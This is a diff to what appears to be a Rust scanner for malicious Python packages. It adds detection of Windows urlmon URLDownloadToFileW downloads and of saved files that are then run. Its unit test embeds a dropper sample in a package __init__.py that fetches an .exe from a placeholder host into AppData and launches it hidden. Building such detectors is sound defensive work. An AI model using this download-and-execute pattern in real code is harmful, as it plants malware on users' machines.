@@ -21,9 +21,23 @@ const HTTP_VERBS: &[&str] = &[
     "get", "post", "put", "patch", "delete", "head", "request", "options",
 ];
 
+/// `URLDownloadToFileW` and its variants: urlmon's download of a URL (second argument) to a
+/// path (third).
+fn is_urlmon_download(function: &str) -> bool {
+    matches!(
+        function,
+        "URLDownloadToFileW" | "URLDownloadToFileA" | "URLDownloadToFile"
+    )
+}
+
 /// Network operations and whether they send data (as opposed to only fetching).
 pub fn classify(qualname: &str) -> Option<NetOp> {
     let (base, last) = qualname.rsplit_once('.').unwrap_or(("", qualname));
+    // Windows' own downloader, reached through ctypes (`windll.urlmon.URLDownloadToFileW(0,
+    // url, path, 0, 0)`): a program fetched to disk by the system, as droppers do.
+    if is_urlmon_download(last) {
+        return Some(NetOp::Fetch);
+    }
     let op = match base {
         "requests"
         | "requests.api"
@@ -609,6 +623,7 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     let target_arg = match qualname.rsplit('.').next() {
         Some("send" | "sendall") if qualname.contains("socket") => None,
         Some("sendto") if qualname.contains("socket") => call.arguments.args.get(1),
+        Some(function) if is_urlmon_download(function) => call.arguments.args.get(1),
         // `requests.Request(method, url, …)`, as the generic `request(method, url, …)`.
         _ if prepared => call
             .arguments
@@ -667,14 +682,17 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     if op == NetOp::Send {
         super::data_flow::check_silent_credential_send(checker, call, target_arg);
     }
-    if qualname.ends_with("urlretrieve")
-        && let Some(path) = call
-            .arguments
+    let saved_to = if qualname.ends_with("urlretrieve") {
+        call.arguments
             .args
             .get(1)
             .or_else(|| super::keyword(call, "filename"))
-            .map(|path| checker.path_of(path))
-    {
+    } else if qualname.rsplit('.').next().is_some_and(is_urlmon_download) {
+        call.arguments.args.get(2)
+    } else {
+        None
+    };
+    if let Some(path) = saved_to.map(|path| checker.path_of(path)) {
         let what = format!(
             "the download of {}",
             crate::text::shorten(&target_text(checker, target_arg), 100)
@@ -1149,5 +1167,23 @@ mod tests {
                 .expect("parses")
                 .into_expr()
         ));
+    }
+
+    #[test]
+    fn urlmon_downloads_are_fetches_that_save_a_file() {
+        let code = "import ctypes\nurlmon = ctypes.WinDLL('urlmon')\nt = r'C:\\Users\\u\\AppData\\Local\\t.exe'\nurlmon.URLDownloadToFileW(None, 'https://x.example.invalid/t.exe', t, 0, None)\nctypes.windll.shell32.ShellExecuteW(None, 'open', t, None, None, 0)\n";
+        let found = crate::rules::testing::findings("p/pkg/__init__.py", code);
+        assert!(
+            found
+                .iter()
+                .any(|f| f.rule == "WH130" && f.message.contains("URLDownloadToFileW")),
+            "{found:?}"
+        );
+        assert!(
+            found
+                .iter()
+                .any(|f| f.rule == "WH120" && f.has_tag("runs-saved-file")),
+            "{found:?}"
+        );
     }
 }
